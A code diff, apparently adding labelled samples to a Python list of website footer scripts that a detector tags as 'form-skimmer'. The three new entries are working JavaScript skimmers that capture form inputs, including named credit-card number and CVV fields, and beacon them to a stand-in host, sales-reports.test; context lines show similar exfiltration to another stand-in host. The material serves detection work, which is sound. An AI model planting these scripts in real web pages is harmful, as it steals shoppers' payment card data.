@@ -706,6 +706,20 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
         "{var x=new XMLHttpRequest();x.open('POST','https://imgcloud-storage.test/gate.php',true)"
         ";x.send('data='+encodeURIComponent(JSON.stringify(d)));}}window.setInterval(snd,3000);"
         "</script>")}, "form-skimmer"),
+    ("a beacon on every form's submit that finds the form by closest('form')", {"footer": (
+        "<script>document.addEventListener('submit',function(e){var f=e.target.closest('form');"
+        "var d={};new FormData(f).forEach(function(v,k){d[k]=v;});navigator.sendBeacon('https:"
+        "//sales-reports.test/c',JSON.stringify(d));},true);</script>")}, "form-skimmer"),
+    ("a delegated change listener that picks the card fields by name", {"footer": (
+        "<script>var d={};document.addEventListener('change',function(e){if(e.target.name==="
+        "'payment[cc_number]'||e.target.name==='payment[cc_cid]'){d[e.target.name]=e.target."
+        "value;navigator.sendBeacon('https://sales-reports.test/c',JSON.stringify(d));}});"
+        "</script>")}, "form-skimmer"),
+    ("a beacon on every form's submit that reads the form's action", {"footer": (
+        "<script>document.addEventListener('submit',function(e){var a=e.target.getAttribute("
+        "'action')||'',d={u:a};e.target.querySelectorAll('input').forEach(function(i){d[i.name]"
+        "=i.value;});navigator.sendBeacon('https://sales-reports.test/c',JSON.stringify(d));},"
+        "true);</script>")}, "form-skimmer"),
     ("card fields posted to another site's WordPress files", {"footer": (
         "<script>document.getElementById('co').addEventListener('submit',function(){var d={c:"
         "document.getElementById('cc-number').value,v:document.getElementById('cc-cvv').value};"
